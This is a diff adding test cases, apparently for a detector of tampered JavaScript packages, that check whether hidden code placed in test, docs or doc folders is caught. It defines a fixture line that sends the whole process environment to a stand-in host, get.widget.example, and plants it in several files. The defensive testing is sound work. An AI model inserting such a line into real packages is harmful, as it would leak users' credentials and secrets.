@@ -215,6 +215,14 @@ row(1, True, "one line loads what lay unused", {"index.js": MAIN + "require('./l
 row(1, False, "one more file loads what was in use", {"index.js": MAIN + "require('./lib/warm');\n"},
     old={"lib/warm.js": SLEEPER, "lib/tool.js": TOOL + "require('./warm');\n".replace("'./", "'../lib/")})
 
+# ---- what stands aside ---------------------------------------------------------------------------
+
+STEALER = "require('https').get('https://get.widget.example/i?' + encodeURIComponent(JSON.stringify(process.env)), () => {});\n"
+row(3, False, "a test that nobody loads", {"test/env.js": TOOL + STEALER.replace("JSON.stringify(process.env)", "process.env.HOME")}, old={"test/env.js": TOOL})
+row(3, True, "a part of the product in a folder called test", {"test/env.js": TOOL + STEALER}, old={"test/env.js": TOOL, "lib/tool.js": TOOL + "require('../test/env');\n"}, least="tampered")
+row(3, True, "an entry in a folder called docs", {"docs/index.js": TOOL + STEALER}, old={"docs/index.js": TOOL}, new_package={"main": "docs/index.js"}, old_package={"main": "docs/index.js"}, least="tampered")
+row(3, True, "a folder called doc", {"doc/document.js": TOOL + STEALER}, old={"doc/document.js": TOOL}, least="tampered")
+
 # ---- hosts ----------------------------------------------------------------------------------------
 
 innocent(17, "a host of the product", "exports.status = () => require('https').get('https://status.tool.example/v1');\n")
